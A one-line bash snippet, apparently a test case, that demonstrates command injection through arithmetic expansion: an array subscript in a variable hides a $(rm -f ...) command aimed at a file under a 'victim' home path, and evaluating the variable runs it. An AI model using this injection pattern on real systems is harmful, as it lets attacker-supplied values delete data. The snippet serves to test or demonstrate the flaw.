x='a[$(rm -f /srv/rt/s/d1/home/victim/keep-E08)]'; echo $[x]
